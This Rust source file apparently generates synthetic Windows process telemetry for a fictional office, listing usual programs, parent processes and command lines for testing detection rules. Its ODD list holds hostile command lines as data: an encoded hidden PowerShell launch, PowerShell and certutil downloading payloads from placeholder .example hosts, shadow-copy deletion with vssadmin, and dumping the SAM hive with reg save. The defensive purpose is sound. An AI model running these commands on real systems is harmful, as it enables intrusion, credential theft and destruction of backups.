//! What runs on the workstations of the made-up office: programs, what starts them, and what rules look for.
//!
//! `{w}` is a word, `{u}` a user, `{n}` a number, `{h}` 32 digits.

/// A program: where it lies, what it says it is, and how it is started.
pub struct Program(pub &'static str, pub &'static str, pub &'static str, pub &'static [&'static str]);

/// What starts what in an office: the end of a program's image, and its usual parents with their command lines. Rules look
/// for the unusual ones, so parents drawn by chance would match as no stream does.
pub const PARENTS: &[(&str, &[(&str, &str)])] = &[
    ("svchost.exe", &[SERVICES]),
    ("taskhostw.exe", &[SVCHOST]),
    ("WmiPrvSE.exe", &[SVCHOST]),
    ("backgroundTaskHost.exe", &[SVCHOST]),
    (
        "SearchProtocolHost.exe",
        &[("C:\\Windows\\System32\\SearchIndexer.exe", "C:\\Windows\\system32\\SearchIndexer.exe /Embedding")],
    ),
    ("msiexec.exe", &[SERVICES]),
    ("conhost.exe", &[CMD]),
    ("powershell.exe", &[EXPLORER]),
    ("rundll32.exe", &[EXPLORER]),
    ("schtasks.exe", &[CMD]),
    ("net.exe", &[CMD]),
    ("reg.exe", &[CMD]),
    ("node.exe", &[CMD]),
    ("git.exe", &[CMD]),
    (
        "chrome.exe",
        &[
            (
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" ",
            ),
            EXPLORER,
        ],
    ),
    (
        "msedge.exe",
        &[
            (
                "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
                "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" ",
            ),
            EXPLORER,
        ],
    ),
];
const SERVICES: (&str, &str) = ("C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe");
const SVCHOST: (&str, &str) =
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule");
const CMD: (&str, &str) = ("C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ");
/// The parent of what people start.
pub const EXPLORER: (&str, &str) = ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");

/// What an office runs.
pub const PROGRAMS: &[Program] = &[
    Program(
        "C:\\Windows\\System32\\svchost.exe",
        "Host Process for Windows Services",
        "svchost.exe",
        &[
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s {w}",
            "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p",
        ],
    ),
    Program(
        "C:\\Windows\\System32\\conhost.exe",
        "Console Window Host",
        "CONHOST.EXE",
        &["\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"],
    ),
    Program(
        "C:\\Windows\\System32\\cmd.exe",
        "Windows Command Processor",
        "Cmd.Exe",
        &[
            "\"C:\\Windows\\system32\\cmd.exe\" /c \"C:\\Program Files\\{w}\\{w}.cmd\" --{w}={n}",
            "C:\\Windows\\system32\\cmd.exe /d /s /c \"node {w}.js --{w} {w}\"",
        ],
    ),
    Program(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "Windows PowerShell",
        "PowerShell.EXE",
        &[
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -ExecutionPolicy RemoteSigned -File \"C:\\ProgramData\\{w}\\{w}.ps1\" -{w} {n}",
            "powershell.exe -NonInteractive -Command \"Get-{w} -Name {w} | Select-Object {w}\"",
        ],
    ),
    Program(
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "Google Chrome",
        "chrome.exe",
        &[
            "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id={n} --time-ticks-at-unix-epoch=-{n} --launch-time-ticks={n} --field-trial-handle={n},i,{n},{n},262144",
            "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none",
        ],
    ),
    Program(
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        "Microsoft Edge",
        "msedge.exe",
        &[
            "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAEAAAA4 --{w}={n}",
        ],
    ),
    Program(
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
        "Microsoft Excel",
        "Excel.exe",
        &[
            "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" \"C:\\Users\\{u}\\Documents\\{w} {w} {n}.xlsx\"",
        ],
    ),
    Program(
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "Microsoft Outlook",
        "Outlook.exe",
        &["\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle"],
    ),
    Program(
        "C:\\Windows\\System32\\taskhostw.exe",
        "Host Process for Windows Tasks",
        "taskhostw.exe",
        &["taskhostw.exe {h}", "taskhostw.exe KEYROAMING"],
    ),
    Program(
        "C:\\Windows\\System32\\rundll32.exe",
        "Windows host process (Rundll32)",
        "RUNDLL32.EXE",
        &[
            "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask",
            "\"C:\\Windows\\system32\\rundll32.exe\" shell32.dll,OpenAs_RunDLL C:\\Users\\{u}\\Downloads\\{w}.{w}",
        ],
    ),
    Program(
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "WMI Provider Host",
        "Wmiprvse.exe",
        &["C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"],
    ),
    Program(
        "C:\\Windows\\System32\\schtasks.exe",
        "Task Scheduler Configuration Tool",
        "schtasks.exe",
        &["schtasks.exe /Query /TN \"\\{w}\\{w}\" /FO LIST"],
    ),
    Program("C:\\Windows\\System32\\net.exe", "Net Command", "net.exe", &["net use \\\\files{n}\\{w} /persistent:no"]),
    Program(
        "C:\\Windows\\System32\\reg.exe",
        "Registry Console Tool",
        "reg.exe",
        &["reg query HKLM\\SOFTWARE\\{w}\\{w} /v {w}"],
    ),
    Program(
        "C:\\Windows\\System32\\backgroundTaskHost.exe",
        "Background Task Host",
        "backgroundTaskHost.exe",
        &["\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppX{h}.mca"],
    ),
    Program(
        "C:\\Program Files\\nodejs\\node.exe",
        "Node.js JavaScript Runtime",
        "node.exe",
        &["\"C:\\Program Files\\nodejs\\node.exe\" C:\\Users\\{u}\\src\\{w}\\node_modules\\{w}\\bin\\{w}.js --{w} {w}"],
    ),
    Program(
        "C:\\Program Files\\Git\\cmd\\git.exe",
        "Git for Windows",
        "git.exe",
        &["git.exe -c credential.helper= -c core.quotepath=false log --format={w} -n {n} HEAD"],
    ),
    Program(
        "C:\\Windows\\System32\\msiexec.exe",
        "Windows installer",
        "msiexec.exe",
        &["C:\\Windows\\system32\\msiexec.exe /V", "C:\\Windows\\System32\\MsiExec.exe -Embedding {h}"],
    ),
    Program(
        "C:\\Windows\\System32\\SearchProtocolHost.exe",
        "Microsoft Windows Search Protocol Host",
        "SearchProtocolHost.exe",
        &[
            "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646",
        ],
    ),
    Program(
        "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
        "Microsoft Teams",
        "Teams.exe",
        &[
            "\"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --type=renderer --enable-wer --user-data-dir=\"C:\\Users\\{u}\\AppData\\Roaming\\Microsoft\\Teams\" --{w}",
        ],
    ),
];
/// What rules look for.
pub const ODD: &[Program] = &[
    Program(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "Windows PowerShell",
        "PowerShell.EXE",
        &[
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA{h}",
            "powershell IEX (New-Object Net.WebClient).DownloadString('http://{w}.example/{w}.ps1')",
        ],
    ),
    Program(
        "C:\\Windows\\System32\\vssadmin.exe",
        "Command Line Interface for Volume Shadow Copy Service",
        "VSSADMIN.EXE",
        &["vssadmin.exe delete shadows /all /quiet"],
    ),
    Program(
        "C:\\Windows\\System32\\certutil.exe",
        "CertUtil.exe",
        "CertUtil.exe",
        &["certutil.exe -urlcache -split -f http://{w}.example/{w}.bin C:\\Users\\Public\\{w}.exe"],
    ),
    Program(
        "C:\\Windows\\System32\\reg.exe",
        "Registry Console Tool",
        "reg.exe",
        &["reg save HKLM\\SAM C:\\Users\\Public\\{w}.hiv"],
    ),
    Program(
        "C:\\Windows\\System32\\whoami.exe",
        "whoami - displays logged on user information",
        "whoami.exe",
        &["whoami /all"],
    ),
    Program("C:\\Users\\Public\\{w}.exe", "-", "-", &["C:\\Users\\Public\\{w}.exe -{w} {h}"]),
];
/// Keys of the registry that are set all day.
pub const KEYS: &[&str] = &[
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\{w}\\DisplayVersion",
    "HKU\\S-1-5-21-{n}-{n}-{n}-1104\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FileExts\\.{w}\\OpenWithList\\MRUList",
    "HKLM\\System\\CurrentControlSet\\Services\\{w}\\Parameters\\{w}",
    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{h}\\Actions",
    "HKU\\S-1-5-21-{n}-{n}-{n}-1104\\SOFTWARE\\Microsoft\\Office\\16.0\\Common\\Internet\\Server Cache\\https://{w}.example/{w}/",
];
